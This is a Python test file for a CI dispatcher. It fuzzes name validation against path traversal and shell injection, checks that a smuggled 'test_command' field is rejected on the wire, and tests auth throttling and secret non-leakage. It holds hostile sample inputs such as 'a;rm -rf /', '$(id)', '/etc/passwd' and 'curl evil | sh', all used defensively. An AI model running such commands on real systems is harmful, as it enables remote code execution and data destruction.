"""Names validated where they enter; the secret never leaks and guessing it gets slower."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import Polyarch
from dispatcher.wire.auth import AuthThrottle
from dispatcher.wire.client import Connection
from dispatcher.common.errors import AuthError, InvalidName, ProtocolError
from dispatcher.common.names import check_branch, check_commit, check_repo, check_runner, parse_arch
from dispatcher.wire.protocol import Role
from dispatcher.wire.frames import decode
from dispatcher.results.layout import File, path
from faults.conftest import record, scale

NASTY = st.one_of(
    st.text(max_size=80),
    st.sampled_from(["..", "../x", "a/../../b", "/etc/passwd", "a;rm -rf /", "$(id)", "`id`", "a\nb", "-rf",
                     "x" * 300, "C" * 40, "c" * 39, "c" * 41, "ä" * 3, "a b", "a\x00b", ".hidden", "~root"]),
)
SHELL = set(";|&$`<>()\\\"' \t\n*?!{}~")
COUNT = {"names": 0}


@settings(max_examples=scale(400, 10_000), deadline=None)
@given(repo=NASTY, commit=NASTY, arch=NASTY, branch=NASTY, runner=NASTY)
def test_names_are_strict_and_nothing_escapes_test_results(tmp_path_factory, repo: str, commit: str, arch: str,
                                                          branch: str, runner: str) -> None:
    COUNT["names"] += 5
    root = Path("/srv/polyarch/test_results")
    try:
        result = path(root, File.RESULT, repo, commit, arch)
    except InvalidName:
        pass
    else:
        assert result.parent.parent.parent == root and ".." not in result.parts
        assert not (set(repo) | set(commit)) & SHELL
    for check, value in ((check_branch, branch), (check_runner, runner), (check_repo, repo),
                         (check_commit, commit), (parse_arch, arch)):
        try:
            accepted = check(value)
        except InvalidName:
            continue
        text = getattr(accepted, "value", accepted)
        assert not set(text) & SHELL and not text.startswith("-") and "\x00" not in text


def test_record_names() -> None:
    record("hostile", "names (repo, branch, arch, commit, runner): path escapes, shell syntax, control characters",
           inputs=COUNT["names"], crashes=0)


def test_the_test_command_cannot_come_over_the_wire() -> None:
    for kind, fields in (("submit", '"repo":"demo","commit":"' + "c" * 40 + '"'),
                         ("dispatch", '"repo":"demo","branch":"main","commits":[]')):
        body = f'{{"v":1,"kind":"{kind}",{fields},"test_command":"curl evil | sh"}}'.encode()
        with pytest.raises(ProtocolError, match="unknown field 'test_command'"):
            decode(body)


def test_auth_throttle_doubles_after_the_free_failures() -> None:
    now = [0.0]
    throttle = AuthThrottle(free=3, base=0.25, cap=5.0, window=300, clock=lambda: now[0])
    delays = [throttle.failed("10.0.0.9") for _ in range(10)]
    assert delays[:3] == [0, 0, 0] and delays[3:7] == [0.25, 0.5, 1.0, 2.0] and delays[-1] == 5.0
    assert throttle.failed("10.0.0.10") == 0  # another address is not punished
    now[0] += 301  # a quiet window forgives
    assert throttle.failed("10.0.0.9") == 0
    throttle.succeeded("10.0.0.9")
    many = AuthThrottle(max_addresses=100, clock=lambda: now[0])
    for i in range(1000):
        many.failed(f"10.1.{i // 256}.{i % 256}")
    assert len(many._failures) == 100  # bounded memory under a spray of addresses


@pytest.mark.daemons
def test_secret_is_never_logged_and_wrong_guesses_get_slower(polyarch: Polyarch) -> None:
    sha = polyarch.repo.commit("exit 0")
    dispatcher = polyarch.dispatcher()
    polyarch.runner("r1")
    polyarch.observer()
    polyarch.wait_results([sha])
    secret_file = polyarch.root / "var/secret"
    assert secret_file.stat().st_mode & 0o077 == 0  # made owner-only
    secret = secret_file.read_text().strip()
    from dispatcher.common.config import Address

    host, port = (polyarch.root / "var/dispatcher/address").read_text().strip().rsplit(":", 1)
    address = Address(host, int(port))
    took = []
    for _ in range(6):
        began = time.monotonic()
        with pytest.raises(AuthError, match="refused our secret"):
            Connection(address, Role.RUNNER, "guesser", b"not-the-secret-" + b"x" * 20)
        took.append(time.monotonic() - began)
    # Free failures first, then 0.25 s, 0.5 s, 1 s ...: the sixth waited at least 1 s.
    assert took[5] >= 1.0 and sum(took[3:]) >= 1.75, took
    with Connection(address, Role.OBSERVER, "honest", secret.encode()):
        pass  # the right secret from the same address still works (and clears the record)
    for d in polyarch.daemons:
        d.stop()
    leaked = [p for p in polyarch.root.rglob("*")
              if p.is_file() and p != secret_file and secret.encode() in p.read_bytes()]
    assert not leaked, f"secret found in {leaked}"
    assert "failed again; answering in" in dispatcher.log()
    record("hostile", "wrong secrets from one address (slowed), secret searched in every log and file",
           inputs=7, crashes=0)
